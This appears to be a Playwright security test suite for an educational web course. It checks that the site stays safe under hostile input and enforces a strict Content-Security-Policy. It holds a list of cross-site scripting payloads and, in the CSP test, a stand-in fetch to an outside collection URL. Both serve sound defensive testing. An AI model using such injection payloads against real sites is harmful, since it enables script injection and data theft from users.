// tests/e2e/security.spec.ts — the built site under hostile input (docs/security.md, part 5):
//   - HTML and script payloads typed into every text input of every page, and put into every
//     URL parameter, parameter name and route, never execute (no dialog, no marker global, no
//     injected element, no CSP violation, no page error) and show up as literal text;
//   - the meta Content-Security-Policy allows only the page's own origin (plus the documented
//     'wasm-unsafe-eval', inline styles and data:/blob: images) and really blocks an injected
//     inline script and a fetch to another host;
//   - a full walk through the course (every lesson, its controls, the lab) makes no request
//     outside the page's origin;
//   - after the core throws (an impossible head split), the page keeps working.
// It does not test the math on the pages (lessons.spec.ts does) nor long sessions
// (long-session.spec.ts).
import { expect, test, type Page } from '@playwright/test';

import { LESSONS, open, watchErrors } from './helpers';

// Each payload would set window.__pwned, open a dialog or leave a [data-pwn] element if it ran.
const PAYLOADS = [
  `<img src=x data-pwn onerror="window.__pwned='img'">`,
  `<script data-pwn>window.__pwned='script'</script>`,
  `"><svg data-pwn onload="window.__pwned='svg'">`,
  `'><iframe data-pwn srcdoc="<script>parent.__pwned='iframe'</script>">`,
  `<a data-pwn href="javascript:window.__pwned='a'">x</a>`,
  `javascript:alert('pwned')`,
  `\${window.__pwned='template'} {{constructor.constructor('window.__pwned=1')()}}`,
  `$\\href{javascript:alert(1)}{x}$ \\url{javascript:alert(2)}`,
];

interface Watch {
  errors: string[];
  dialogs: string[];
}

/** Records dialogs, page errors, console errors and CSP violations from now on. */
async function watch(page: Page): Promise<Watch> {
  const w: Watch = { errors: watchErrors(page), dialogs: [] };
  page.on('dialog', async (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    await d.dismiss();
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  return w;
}

/** Nothing ran: no marker, no injected element, no dialog, no error or CSP violation. */
async function expectNothingRan(page: Page, w: Watch, what: string): Promise<void> {
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    injected: document.querySelectorAll('[data-pwn]').length,
  }));
  expect(state.pwned, `${what}: a payload ran`).toBeNull();
  expect(state.injected, `${what}: a payload became an element`).toBe(0);
  expect(w.dialogs, `${what}: a dialog opened`).toEqual([]);
  expect(w.errors, `${what}: errors`).toEqual([]);
}

const routes = ['', ...LESSONS, 'lab'];

test('payloads typed into every text input of every page stay text and never run', async ({ page }) => {
  test.setTimeout(240_000);
  const w = await watch(page);
  let typed = 0;
  for (const route of routes) {
    await open(page, `#/${route}`);
    const inputs = page.locator(
      'main input[type="text"]:visible, main input:not([type]):visible, main textarea:visible, main [contenteditable="true"]:visible',
    );
    const n = await inputs.count();
    for (let k = 0; k < n; k++) {
      for (const payload of PAYLOADS) {
        const input = inputs.nth(k);
        if (!(await input.isVisible()) || !(await input.isEditable())) continue;
        await input.fill(payload);
        await input.press('Tab'); // commits (change) without submitting anything
        typed++;
        await page.waitForTimeout(30);
        // The box keeps the payload literally (up to its maxlength): nothing escaped or stripped.
        const max = Number((await input.getAttribute('maxlength')) ?? 1e9);
        await expect(input).toHaveValue(payload.slice(0, max));
        await expectNothingRan(page, w, `#/${route} input ${k} ← ${payload}`);
      }
    }
  }
  // The course has sentence boxes and the code editor; a test that typed nothing would be empty.
  expect(typed).toBeGreaterThanOrEqual(PAYLOADS.length * 5);
});

test('the sentence box shows a payload as literal tokens, also after a reload from the URL', async ({ page }) => {
  const w = await watch(page);
  const payload = `<img src=x data-pwn onerror="window.__pwned=1">`;
  await open(page, `#/match?w=random&s=${encodeURIComponent(payload)}`);
  await expect(page.locator('main input[data-key="s"]')).toHaveValue(payload);
  // The tokenizer splits punctuation: "<", "img", "src", "=", … appear as text in the figure.
  const labels = await page.locator('main').textContent();
  expect(labels).toContain('<');
  expect(labels).toContain('img');
  expect(labels).toContain('onerror');
  await expectNothingRan(page, w, 'sentence from the URL');
});

test('payloads in every URL parameter, parameter name and route never run', async ({ page }) => {
  test.setTimeout(240_000);
  const w = await watch(page);
  let loads = 0;
  for (const route of routes) {
    await open(page, `#/${route}`);
    const keys = new Set(['s', 'seed', 'wq', 'wk', 'wv', 'lang']);
    for (const k of await page.locator('[data-key]').evaluateAll((els) => els.map((e) => (e as HTMLElement).dataset.key ?? ''))) if (k) keys.add(k);
    for (let p = 0; p < PAYLOADS.length; p++) {
      const params = [...keys].map((k, i) => `${k}=${encodeURIComponent(PAYLOADS[(p + i) % PAYLOADS.length]!)}`);
      params.push(`${encodeURIComponent(PAYLOADS[p]!)}=1`); // an unknown parameter named by a payload
      await page.goto(`/index.html#/${route}?${params.join('&')}`);
      await page.waitForSelector('html[data-ready="1"]');
      loads++;
      await expectNothingRan(page, w, `#/${route} with payload ${p} in every parameter`);
      await expect(page.locator('h1').first()).toBeVisible();
    }
  }
  // A route that is a payload: the notice names it as text.
  for (const payload of PAYLOADS) {
    await page.goto(`/index.html#/${encodeURIComponent(payload)}`);
    await page.waitForSelector('html[data-ready="1"]');
    await expect(page.locator('#notice')).toBeVisible();
    await expectNothingRan(page, w, `route ${payload}`);
  }
  const unknownKey = `<b data-pwn>bold</b>`;
  await page.goto(`/index.html#/match?${encodeURIComponent(unknownKey)}=1`);
  await page.waitForSelector('html[data-ready="1"]');
  await expect(page.locator('#notice')).toContainText(unknownKey);
  await expectNothingRan(page, w, 'unknown key shown in the notice');
  expect(loads).toBe(routes.length * PAYLOADS.length);
});

test('the Content-Security-Policy allows only the own origin and is enforced', async ({ page, baseURL }) => {
  const w = await watch(page);
  const origin = new URL(baseURL!).origin;
  const foreign: string[] = [];
  page.on('request', (r) => {
    if (/^https?:/.test(r.url()) && new URL(r.url()).origin !== origin) foreign.push(r.url());
  });
  await open(page, '#/softmax');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp, 'a meta CSP').toBeTruthy();
  const directives = Object.fromEntries(
    csp!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
  // Only 'self' as a source; the documented keyword exceptions and no host, scheme or wildcard.
  const allowedKeywords = new Set(["'self'", "'none'", "'wasm-unsafe-eval'", "'unsafe-inline'", 'data:', 'blob:']);
  for (const [name, values] of Object.entries(directives) as [string, string[]][])
    for (const v of values) expect(allowedKeywords.has(v), `${name} allows ${v}`).toBe(true);
  expect(directives['default-src']).toEqual(["'self'"]);
  expect(directives['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives['connect-src']).toEqual(["'self'"]);
  expect(directives['object-src']).toEqual(["'none'"]);
  expect(directives['style-src']).toEqual(["'self'", "'unsafe-inline'"]); // KaTeX's inline styles
  for (const [name, values] of Object.entries(directives) as [string, string[]][])
    if (name !== 'style-src') expect(values, `${name}`).not.toContain("'unsafe-inline'");

  // Enforced: an injected inline script does not run, and a fetch to another host is refused
  // by the browser before any request is made.
  const result = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "inline script"';
    document.body.append(s);
    let fetched = 'sent';
    try {
      await fetch('https://example.com/collect?x=1');
    } catch {
      fetched = 'refused';
    }
    return { pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null, fetched };
  });
  expect(result).toEqual({ pwned: null, fetched: 'refused' });
  expect(foreign).toEqual([]);
  // Both attempts were reported as CSP violations (the events arrive asynchronously), which is
  // also what makes the other tests' "no CSP violation" meaningful.
  await expect.poll(() => w.errors.filter((e) => e.startsWith('CSP violation')).length).toBeGreaterThanOrEqual(2);
  expect(w.errors.filter((e) => !/CSP violation|Content Security Policy|Refused to connect|Failed to fetch/.test(e))).toEqual([]);
});

test('a full walk through the course makes no request outside the page origin', async ({ page, context, baseURL }) => {
  test.setTimeout(180_000);
  const w = await watch(page);
  const all: string[] = [];
  const foreign: string[] = [];
  const origin = new URL(baseURL!).origin;
  const record = (url: string) => {
    if (!/^(https?|wss?):/.test(url)) return; // data:, blob: stay in the page
    all.push(url);
    if (new URL(url).origin !== origin) foreign.push(url);
  };
  context.on('request', (r) => record(r.url()));
  page.on('request', (r) => record(r.url()));
  page.on('websocket', (ws) => foreign.push(`websocket ${ws.url()}`));
  await open(page, '#/');
  expect(new URL(page.url()).origin).toBe(origin);
  // Lesson after lesson through the pager, touching every control once on the way.
  for (const slug of LESSONS) {
    await page.goto(`/index.html#/${slug}`);
    await page.waitForSelector('html[data-ready="1"]');
    await expect(page.locator('h1').first()).toBeVisible();
    for (const range of await page.locator('main input[type="range"]:visible').all()) {
      const max = await range.getAttribute('max');
      await range.fill(max ?? '1');
    }
    for (const box of await page.locator('main input[type="checkbox"]:visible').all()) await box.click();
    const chip = page.locator('main button.chip:visible').first();
    if (await chip.count()) await chip.click();
    const quiz = page.locator('main input[type="radio"]').first();
    if (await quiz.count()) await quiz.check();
    const tableToggle = page.getByRole('button', { name: 'Show as table' }).first();
    if (await tableToggle.count()) await tableToggle.click();
  }
  await page.goto('/index.html#/lab');
  await page.waitForSelector('html[data-ready="1"]');
  await page.waitForTimeout(500);
  expect(
    all.some((u) => u.endsWith('.wasm')),
    'the walk loaded the WASM core',
  ).toBe(true);
  expect(all.length).toBeGreaterThan(10);
  expect(foreign).toEqual([]);
  expect(w.errors).toEqual([]);
});

test('after the core throws, the page keeps working', async ({ page }) => {
  const w = await watch(page);
  // 3 heads cannot split d_model = 8: the core throws, the page explains it.
  await open(page, '#/multihead?w=random&nh=3&dm=8');
  await expect(page.locator('[data-stat="impossible"]')).toContainText('not divisible');
  await expect(page.locator('[data-fig^="head-"]')).toHaveCount(0);
  // The same page recovers as soon as the input is valid again …
  await page.locator('[data-key="nh"]').fill('4');
  await expect(page.locator('[data-fig^="head-"]')).toHaveCount(4);
  await expect(page.locator('[data-stat="impossible"]')).toHaveCount(0);
  // … and so does every other page of the same session.
  await page.goto('/index.html#/softmax');
  await page.waitForSelector('html[data-ready="1"]');
  await expect(page.locator('[data-fig] .hm-cell').first()).toBeAttached();
  expect(w.errors).toEqual([]);
});
